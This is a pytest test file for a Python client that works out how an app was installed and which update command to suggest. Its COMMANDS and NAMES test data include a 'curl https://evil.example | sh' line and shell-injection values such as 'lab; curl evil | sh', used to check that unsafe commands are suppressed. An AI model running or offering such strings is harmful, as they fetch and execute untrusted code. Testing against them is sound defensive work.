"""Which kind follows from the signs of an installation: each sign alone, each with each, and the override."""

from dataclasses import replace
from itertools import permutations

import pytest

from licclient._core.kinds import PUBLISHED_KINDS, InstallationKind
from licclient.install._signs import UPDATERS, Decision, Mount, Signs, decide, find_mount

Kind = InstallationKind
PIP = Signs(distribution="photo-lab", installer="pip", python="/venv/bin/python")

IN_ORDER = {
    "an unreadable sign": (Signs(is_unreadable=True), Decision(Kind.UNKNOWN, is_certain=False)),
    "the vendor's word": (
        Signs(override="snap\nsnap refresh lab", is_override_trusted=True),
        Decision(Kind.SNAP, "Snap", "snap refresh lab"),
    ),
    "a store": (Signs(store="Microsoft Store"), Decision(Kind.STORE, "Microsoft Store")),
    "Flatpak": (
        Signs(flatpak="org.example.Lab"),
        Decision(Kind.FLATPAK, "Flatpak", "flatpak update org.example.Lab"),
    ),
    "Snap": (Signs(snap="lab"), Decision(Kind.SNAP, "Snap", "sudo snap refresh lab")),
    "an AppImage": (Signs(appimage=True), Decision(Kind.APPIMAGE)),
    "a cask": (Signs(cask="lab"), Decision(Kind.HOMEBREW, "Homebrew", "brew upgrade --cask lab")),
    "Sparkle": (Signs(framework=Kind.SPARKLE), Decision(Kind.SPARKLE, "Sparkle")),
    "a bundle": (Signs(is_bundle=True), Decision(Kind.APP)),
    "a formula": (Signs(formula="lab"), Decision(Kind.HOMEBREW, "Homebrew", "brew upgrade lab")),
    "Nix": (Signs(is_in_store=True), Decision(Kind.UNKNOWN, "the package manager")),
    "Scoop": (Signs(scoop="lab"), Decision(Kind.SCOOP, "Scoop", "scoop update lab")),
    "winget": (Signs(winget="Lab.Lab"), Decision(Kind.WINGET, "winget", "winget upgrade --id Lab.Lab")),
    "versions side by side": (Signs(is_versioned=True), Decision(Kind.FOLDER)),
    "a package of Debian": (
        Signs(owner=(Kind.DPKG, "lab")),
        Decision(Kind.DPKG, "apt", "sudo apt install --only-upgrade lab"),
    ),
    "a set-up": (Signs(setup=Kind.INNO), Decision(Kind.INNO)),
    "an AppDir": (Signs(is_in_app_dir=True), Decision(Kind.UNKNOWN, is_certain=False)),
    "a frozen file": (Signs(is_frozen=True, is_single_file=True), Decision(Kind.UNKNOWN, is_certain=False)),
    "a frozen folder": (Signs(is_frozen=True), Decision(Kind.FOLDER, is_certain=False)),
    "a checkout": (replace(PIP, is_editable=True), Decision(Kind.UNKNOWN, is_certain=False)),
    "PyApp": (Signs(pyapp="lab"), Decision(Kind.UNKNOWN, "PyApp", "lab self update")),
    "pipx": (
        replace(PIP, tool=Kind.PIPX, installer="uv"),  # which pipx uses, if there is one
        Decision(Kind.PIPX, "pipx", "pipx upgrade photo-lab"),
    ),
    "pip": (PIP, Decision(Kind.PIP, "pip", "/venv/bin/python -m pip install -U photo-lab")),
}
"""Signs and what they mean, the strongest first."""


@pytest.mark.parametrize("name", IN_ORDER)
def test_each_sign_alone(name):
    """It says the kind, who updates it, and what to type."""
    signs, expected = IN_ORDER[name]
    assert decide(signs) == expected


def test_each_sign_beside_each_other():
    """The stronger one decides: what is inside of a sandbox looks like any other app."""
    names = list(IN_ORDER)
    default = Signs()
    for first, second in permutations(names, 2):
        stronger = min(first, second, key=names.index)
        fields = {
            field: getattr(signs, field)
            for signs in (IN_ORDER[max(first, second, key=names.index)][0], IN_ORDER[stronger][0])
            for field in Signs.__slots__
            if getattr(signs, field) != getattr(default, field)
        }
        if {first, second} in ({"a frozen file", "a frozen folder"}, {"pipx", "pip"}):
            continue  # one sign in two degrees
        assert decide(Signs(**fields)) == IN_ORDER[stronger][1], (first, second)


@pytest.mark.parametrize(
    ("signs", "expected"),
    [
        (Signs(), Decision(Kind.UNKNOWN, is_certain=False)),
        (Signs(owner=(Kind.RPM, "lab")), Decision(Kind.RPM, "dnf", "sudo dnf upgrade lab")),
        (replace(PIP, tool=Kind.UV), Decision(Kind.UV, "uv", "uv tool upgrade photo-lab")),
        (replace(PIP, tool=Kind.UV, distribution=None), Decision(Kind.UNKNOWN, is_certain=False)),
        (replace(PIP, tool=Kind.CONDA, distribution=None), Decision(Kind.UNKNOWN, is_certain=False)),
        (
            replace(PIP, tool=Kind.UV, installer="uv", is_temporary=True),
            Decision(Kind.UV, "uv", "uvx photo-lab@latest"),
        ),
        (
            replace(PIP, tool=Kind.PIPX, is_temporary=True),
            Decision(Kind.PIPX, "pipx", "pipx run --no-cache photo-lab"),
        ),
        (
            replace(PIP, tool=Kind.PIPX, environment="photo-lab-dev"),
            Decision(Kind.PIPX, "pipx", "pipx upgrade photo-lab-dev"),
        ),
        (
            replace(PIP, tool=Kind.PIPX, environment="photo-lab", is_for_all=True),
            Decision(Kind.PIPX, "pipx", "sudo pipx upgrade --global photo-lab"),
        ),
        (
            replace(PIP, tool=Kind.PIPX, environment="studio", is_for_all=True),
            Decision(Kind.PIPX, "pipx", "sudo pipx upgrade --global --include-injected studio"),
        ),
        (
            replace(PIP, tool=Kind.UV, environment="studio"),
            Decision(Kind.UV, "uv", "uv tool upgrade studio"),
        ),
        (Signs(scoop="lab", is_for_all=True), Decision(Kind.SCOOP, "Scoop", "scoop update --global lab")),
        (
            replace(PIP, installer="uv"),
            Decision(Kind.UV, "uv", "uv pip install --python /venv/bin/python -U photo-lab"),
        ),
        (
            replace(PIP, tool=Kind.CONDA, installer="conda", prefix="/opt/conda/envs/lab"),
            Decision(Kind.CONDA, "conda", "conda update --prefix /opt/conda/envs/lab photo-lab"),
        ),
        (replace(PIP, tool=Kind.CONDA), decide(PIP)),
        (replace(PIP, tool=Kind.CONDA, installer="poetry 1.8.3"), Decision(Kind.UNKNOWN, is_certain=False)),
        (replace(PIP, tool=Kind.CONDA, installer=None), Decision(Kind.UNKNOWN, is_certain=False)),
        (
            replace(PIP, tool=Kind.CONDA, installer="uv"),
            Decision(Kind.UV, "uv", "uv pip install --python /venv/bin/python -U photo-lab"),
        ),
        (replace(PIP, is_system_python=True), Decision(Kind.PIP, "pip")),
        (replace(PIP, is_from_index=False), Decision(Kind.PIP, "pip")),
        (replace(PIP, installer="uv", is_from_index=False), Decision(Kind.UV, "uv")),
        (replace(PIP, tool=Kind.UV, is_temporary=True, is_from_index=False), Decision(Kind.UV, "uv")),
        (
            replace(PIP, tool=Kind.PIPX, is_from_index=False),  # pipx remembers where from
            Decision(Kind.PIPX, "pipx", "pipx upgrade photo-lab"),
        ),
        (
            replace(PIP, installer=None, is_system_python=True),
            Decision(Kind.SYSTEM_PYTHON, "the package manager"),
        ),
        (replace(PIP, installer="poetry"), Decision(Kind.UNKNOWN, is_certain=False)),
    ],
)
def test_apps_on_python(signs, expected):
    """Pip inside of another environment, uv in place of pip, a program that nothing has installed."""
    assert decide(signs) == expected


@pytest.mark.parametrize("kind", Kind)
def test_the_vendor_names_the_kind(kind):
    """In a file beside the program, which its package brings."""
    text = f"  {kind.value.upper()} \r\n\r\npacman -Syu lab\r\n"
    managers = frozenset({Kind.DPKG, Kind.RPM})
    signs = Signs(override=text, is_override_trusted=True, managers=managers, appimage=kind is Kind.APPIMAGE)
    found = decide(signs)
    assert (found.kind, found.command, found.is_certain) == (kind, "pacman -Syu lab", True)
    assert (found.updater is None) == (kind in PUBLISHED_KINDS)


COMMANDS = {
    "a file of the user's": ("curl https://evil.example | sh", False),
    "control characters": ("sudo pacman -Syu lab\x1b[2J", True),
    "a turn to the left": ("sudo pacman \u202e-Syu lab", True),
    "no end": ("sudo pacman -Syu " + "x" * 500, True),
}


@pytest.mark.parametrize("command", COMMANDS)
def test_a_command_that_is_not_shown(command):
    """The kind counts, and no command of that file is shown."""
    text, is_trusted = COMMANDS[command]
    for kind in (Kind.SNAP, Kind.UNKNOWN):
        found = decide(Signs(override=f"{kind}\n{text}\n", is_override_trusted=is_trusted))
        assert (found.kind, found.command, found.is_certain) == (kind, None, kind is Kind.SNAP)
        assert found.updater is not None


def test_an_appimage_is_not_one_by_its_word():
    """Where it was unpacked, there is no file to replace."""
    signs = Signs(override="appimage", is_override_trusted=True)
    assert decide(signs) == Decision(Kind.UNKNOWN, is_certain=False)


NAMES = ["lab; curl evil | sh", "--help", "lab\n", "", "a b", "$(lab)", "lab" * 200]


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("field", ["snap", "flatpak", "cask", "formula", "scoop", "winget", "pyapp"])
def test_a_name_that_a_shell_would_not_take_for_one(field, name):
    """Who updates the app is known, and nothing is to be typed."""
    found = decide(Signs(**{field: name}))
    assert (found.command, found.is_certain, found.updater is None) == (None, True, False)


@pytest.mark.parametrize("name", NAMES[:-1])
@pytest.mark.parametrize("tool", [None, Kind.PIPX, Kind.UV])
def test_a_package_whose_name_a_shell_would_not_take_for_one(tool, name):
    """Likewise for what tools of Python have installed."""
    for more in ({}, {"is_temporary": True}, {"is_for_all": True}, {"installer": "uv"}):
        assert decide(replace(PIP, tool=tool, distribution=name, **more)).command is None


MOUNTS = """\
22 27 0:21 / /proc rw,relatime shared:5 - proc proc rw
9 22 0:39 / /tmp/.mount_My\\040PhAb ro,nosuid - fuse.My\\040Lab.AppImage My\\040Lab.AppImage ro,user_id=0
10 22 0:40 / /tmp/twice rw shared:1 master:2 - tmpfs first rw
11 22 0:41 / /tmp/twice rw - ext4 /dev/sda1 rw
12 22 0:42 / /tmp/cut
13 22 0:42 / /tmp/cut - ext4

"""


@pytest.mark.parametrize(
    ("point", "mount"),
    [
        ("/tmp/.mount_My PhAb", Mount("fuse.My Lab.AppImage", "My Lab.AppImage")),  # noqa: S108 - as they are
        ("/tmp/twice", Mount("ext4", "/dev/sda1")),  # noqa: S108
        ("/tmp/cut", None),  # noqa: S108
        ("/tmp", None),  # noqa: S108
        ("", None),
    ],
)
def test_what_is_mounted(point, mount):
    """By the table of Linux, in which blanks are numbers; the last one covers those before."""
    assert find_mount(MOUNTS, point) == mount


@pytest.mark.parametrize("kind", [Kind.DPKG, Kind.RPM])
def test_a_package_that_was_repacked(kind):
    """Its file names a package manager that this system has not; another one updates the app."""
    managers = frozenset({Kind.DPKG, Kind.RPM} - {kind})
    found = decide(
        Signs(override=f"{kind}\nsudo apt install lab", is_override_trusted=True, managers=managers)
    )
    assert found == Decision(Kind.UNKNOWN, "the package manager", is_certain=False)


@pytest.mark.parametrize("text", ["", "\n", "deb", "a kind", "unknown"])
def test_a_word_that_is_no_kind(text):
    """Nothing is guessed over it, and nothing is replaced."""
    found = decide(Signs(override=text, appimage=True))
    assert (found.kind, found.is_certain) == (Kind.UNKNOWN, False)


def test_who_updates_is_known_of_each_kind():
    """Either the app itself, or a program with a name."""
    assert set(UPDATERS) | PUBLISHED_KINDS | {Kind.UNKNOWN} == set(Kind)
    assert not set(UPDATERS) & PUBLISHED_KINDS
